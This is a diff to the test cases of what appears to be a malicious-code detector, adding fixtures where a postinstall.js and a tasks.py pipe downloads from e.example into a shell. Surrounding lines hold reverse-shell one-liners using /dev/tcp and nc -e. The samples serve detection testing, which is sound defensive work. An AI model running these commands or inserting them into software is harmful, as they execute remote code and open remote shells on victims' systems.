@@ -73,6 +73,18 @@ CASES = [
         "#!/bin/sh\ncurl -s https://get.example/run | sudo bash\n",
         "high",
     ),
+    (
+        "code-runs-download-in-shell",
+        "postinstall.js",
+        "require('child_process').execSync('curl -s https://e.example/p | sh');\n",
+        "high",
+    ),
+    (
+        "code-runs-download-in-shell",
+        "tasks.py",
+        "import os\nos.system('wget -qO- http://e.example/x | bash')\n",
+        "high",
+    ),
     ("reverse-shell-dev-tcp", "start.sh", "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", "high"),
     ("reverse-shell-netcat", "run.sh", "nc -e /bin/sh 10.0.0.1 4444\n", "high"),
     (
@@ -123,6 +135,7 @@ CLEAN = [
     ("codec.py", "import base64\ndata = base64.b64decode(request.body)\nresult = json.loads(data)\n"),
     ("README.md", "Install with `pip install .`; mining of data is done by the report job.\n"),
     ("app.js", "const fn = new Function('a', 'b', 'return a + b');\n"),
+    ("cli.py", "HELP = 'install the CLI: curl -fsSL https://get.example.com | sh'\n"),
 ]
 
 
